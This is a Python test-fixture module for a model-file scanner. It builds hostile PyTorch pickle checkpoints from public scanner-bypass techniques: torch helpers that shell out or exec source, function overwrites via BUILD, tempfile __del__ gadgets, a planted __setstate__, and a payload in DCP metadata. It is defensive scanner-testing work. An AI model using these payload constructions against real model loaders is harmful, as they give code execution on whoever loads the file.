"""Exploits a deny list lets through: torch helpers that shell out or exec, a call on a call's result, a
stdlib pager that pipes to a shell, a BUILD that overwrites a torch function, gadget classes run by their
``__del__`` or by an instance ``__setstate__``. Each payload provably runs under ``torch.load(weights_only=
False)`` (tests/test_hostile.py loads them that way, forked, in a scratch folder); statecli must call each
one dangerous, so ``check`` exits 5.

Techniques from the public catalogues of scanner bypasses: picklescan's advisories (torch.utils.collect_env
``run``, ``torch.fx`` source exec, ``torch.jit.unsupported_tensor_ops.execWrapper``, ``cProfile.runctx``,
``uuid._get_command_stdout``, ``pkgutil.resolve_name``), fickling's "a call whose result is popped", and
the ShadowPickle paper's overwritten modules (BUILD on a module replaces a function the scanner trusts).
"""

from __future__ import annotations

from pathlib import Path

from make_hostile import MARKER, PAYLOAD, Asm, Expected, _touch, case, exploit, torch_zip, with_payload

SHELL_PY = f"import os; os.system({PAYLOAD!r})"


@case("torch_collect_env_run", "verdict", exploit("dangerous-global", "torch.utils.collect_env.run"))
def _(d: Path) -> Path:
    # torch's environment-collection helper runs its argument with a shell.
    return torch_zip(d / "model.pt", with_payload(lambda a: a.call("torch.utils.collect_env", "run", _touch)))


@case("torch_fx_exec_source", "verdict", exploit("dangerous-global", "torch.fx.graph_module._exec_with_source"))
def _(d: Path) -> Path:
    # torch.fx compiles and execs the source text it is given (GraphModule's own unpickling path).
    def payload(a: Asm) -> None:
        a.call("torch.fx.graph_module", "_exec_with_source", lambda a: a.str_(SHELL_PY), lambda a: a.op("EMPTY_DICT"))

    return torch_zip(d / "model.pt", with_payload(payload))


@case("torch_jit_exec_wrapper", "verdict", exploit("dangerous-global", "execWrapper"))
def _(d: Path) -> Path:
    def payload(a: Asm) -> None:
        a.call(
            "torch.jit.unsupported_tensor_ops",
            "execWrapper",
            lambda a: a.str_(SHELL_PY),
            lambda a: a.op("EMPTY_DICT"),
            lambda a: a.op("EMPTY_DICT"),
        )

    return torch_zip(d / "model.pt", with_payload(payload))


@case("torch_import_dotted_name_then_call", "verdict", exploit("call-on-value", "_import_dotted_name"))
def _(d: Path) -> Path:
    # torch._utils._import_dotted_name("os.system") returns os.system; the REDUCE after it calls that result.
    def payload(a: Asm) -> None:
        a.call("torch._utils", "_import_dotted_name", lambda a: a.str_("os.system"))
        a.tuple_(_touch).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("pkgutil_resolve_name_then_call", "verdict", exploit("call-on-value", "pkgutil.resolve_name"))
def _(d: Path) -> Path:
    def payload(a: Asm) -> None:
        a.call("pkgutil", "resolve_name", lambda a: a.str_("os:system"))
        a.tuple_(_touch).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("call_result_memoized_then_called", "verdict", exploit("call-on-value", "_import_dotted_name"))
def _(d: Path) -> Path:
    # The call's result goes through the memo and comes back later: still a call on a value.
    def payload(a: Asm) -> None:
        a.call("torch._utils", "_import_dotted_name", lambda a: a.str_("os.system")).put(900).op("POP")
        a.str_("filler").op("POP")
        a.get(900).tuple_(_touch).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("pydoc_pipepager", "verdict", exploit("dangerous-global", "pydoc.pipepager"))
def _(d: Path) -> Path:
    # A stdlib pager that pipes its text to the command it is given, through a shell.
    return torch_zip(
        d / "model.pt", with_payload(lambda a: a.call("pydoc", "pipepager", lambda a: a.str_("x"), _touch))
    )


@case("cprofile_runctx", "verdict", exploit("dangerous-global", "cProfile.runctx"))
def _(d: Path) -> Path:
    def payload(a: Asm) -> None:
        a.call("cProfile", "runctx", lambda a: a.str_(SHELL_PY), lambda a: a.op("EMPTY_DICT"), lambda a: a.op("NONE"))

    return torch_zip(d / "model.pt", with_payload(payload))


@case("uuid_get_command_stdout", "verdict", exploit("dangerous-global", "uuid._get_command_stdout"))
def _(d: Path) -> Path:
    # uuid's helper runs any program on PATH with the arguments it is given.
    def payload(a: Asm) -> None:
        a.call("uuid", "_get_command_stdout", lambda a: a.str_("touch"), lambda a: a.str_(MARKER))

    return torch_zip(d / "model.pt", with_payload(payload))


@case("build_patches_torch_function", "verdict", exploit("build-on-global", "torch._utils"))
def _(d: Path) -> Path:
    # BUILD on the module torch._utils replaces _rebuild_tensor_v2 with os.system; the next lookup of
    # that trusted name gets os.system, and the call that follows runs the payload.
    def payload(a: Asm) -> None:
        a.global_("torch", "_utils").op("EMPTY_DICT").str_("_rebuild_tensor_v2").global_("os", "system")
        a.op("SETITEM").op("BUILD").op("POP")
        a.call("torch._utils", "_rebuild_tensor_v2", _touch)

    return torch_zip(d / "model.pt", with_payload(payload))


@case("rebuild_from_type_calls_its_func", "verdict", exploit("dangerous-global", "os.system"))
def _(d: Path) -> Path:
    # torch._tensor._rebuild_from_type_v2 (on torch's own weights_only allow list) calls its first argument.
    def payload(a: Asm) -> None:
        a.global_("torch._tensor", "_rebuild_from_type_v2")
        a.tuple_(
            lambda a: a.global_("os", "system"),
            lambda a: a.global_("torch", "Tensor"),
            lambda a: a.tuple_(_touch),
            lambda a: a.op("EMPTY_DICT"),
        ).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


def _namespace_with(a: Asm, attr: str, value: object) -> None:
    """``argparse.Namespace()`` (an inert class) whose ``attr`` is what ``value`` writes."""
    a.global_("argparse", "Namespace").op("EMPTY_TUPLE").op("NEWOBJ")
    a.op("EMPTY_DICT").str_(attr)
    value(a)  # type: ignore[operator]
    a.op("SETITEM").op("BUILD")


@case("tempfile_closer_del_gadget", "verdict", exploit("dangerous-global", "tempfile._TemporaryFileCloser"))
def _(d: Path) -> Path:
    # No call at all: NEWOBJ makes a tempfile._TemporaryFileCloser and BUILD sets its state. When the
    # loaded object is dropped, its __del__ calls self.file.close(): here a partial of the payload.
    def partial_payload(a: Asm) -> None:
        a.call("functools", "partial", lambda a: a.global_("torch.utils.collect_env", "run"), _touch)

    def payload(a: Asm) -> None:
        a.global_("tempfile", "_TemporaryFileCloser").op("EMPTY_TUPLE").op("NEWOBJ")
        a.op("EMPTY_DICT").op("MARK")
        a.str_("file")
        _namespace_with(a, "close", partial_payload)
        a.str_("name").str_("statecli-no-such-file").str_("delete").op("NEWFALSE")
        a.op("SETITEMS").op("BUILD")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("instance_setstate_planted", "verdict", exploit("dangerous-state", "__setstate__"))
def _(d: Path) -> Path:
    # The first BUILD puts a __setstate__ in an (inert) instance's __dict__; pickle looks it up on the
    # instance, so the second BUILD calls it with the payload.
    def payload(a: Asm) -> None:
        _namespace_with(a, "__setstate__", lambda a: a.global_("torch.utils.collect_env", "run"))
        a.str_(PAYLOAD).op("BUILD")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("reconstructor_of_a_gadget_class", "verdict", exploit("dangerous-global", "tempfile._TemporaryFileCloser"))
def _(d: Path) -> Path:
    # The same gadget made the protocol-0/1 way: copyreg._reconstructor(cls, object, None), then BUILD.
    def partial_payload(a: Asm) -> None:
        a.call("functools", "partial", lambda a: a.global_("torch.utils.collect_env", "run"), _touch)

    def payload(a: Asm) -> None:
        a.call(
            "copyreg",
            "_reconstructor",
            lambda a: a.global_("tempfile", "_TemporaryFileCloser"),
            lambda a: a.global_("builtins", "object"),
            lambda a: a.op("NONE"),
        )
        a.op("EMPTY_DICT").op("MARK").str_("file")
        _namespace_with(a, "close", partial_payload)
        a.str_("name").str_("statecli-no-such-file").str_("delete").op("NEWFALSE")
        a.op("SETITEMS").op("BUILD")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_then_corrupt", "verdict", Expected("error", 5, "torch.utils.collect_env.run", False, "torch.load"))
def _(d: Path) -> Path:
    # The payload runs, then the pickle breaks: torch.load fails only after the command ran. Reporting
    # "corrupt" (exit 3) would hide the exploit: it must be refused as unsafe (exit 5).
    def payload(a: Asm) -> None:
        a.call("torch.utils.collect_env", "run", _touch)
        a.raw(b"\xff")  # no such opcode

    return torch_zip(d / "model.pt", with_payload(payload))


class _Payload:
    """Pickles as a call of torch's environment-collection ``run``: what an attacker puts in a file."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        from torch.utils.collect_env import run

        return (run, (PAYLOAD,))


@case("dcp_metadata_payload", "verdict", exploit("dangerous-global", "torch.utils.collect_env.run", "dcp"))
def _(d: Path) -> Path:
    # torch's DCP reader unpickles .metadata with plain pickle.load: a payload in any field runs.
    import pickle
    import shutil

    sample = Path(__file__).resolve().parents[2] / "sample_models" / "dcp_training"
    folder = d / "ckpt"
    shutil.copytree(sample, folder)
    with open(folder / ".metadata", "rb") as f:
        metadata = pickle.load(f)  # statecli's own sample: trusted
    metadata.planner_data = _Payload()
    with open(folder / ".metadata", "wb") as f:
        pickle.dump(metadata, f)
    return folder


@case("dcp_metadata_payload_only", "verdict", Expected("error", 5, "torch.utils.collect_env.run", False, "dcp"))
def _(d: Path) -> Path:
    # A .metadata whose pickle is nothing but the payload: not DCP metadata, and refused as unsafe, since
    # torch's reader runs it before it looks at what it got.
    import pickle
    import shutil

    sample = Path(__file__).resolve().parents[2] / "sample_models" / "dcp_training"
    folder = d / "ckpt"
    shutil.copytree(sample, folder)
    (folder / ".metadata").write_bytes(pickle.dumps(_Payload(), protocol=2))
    return folder
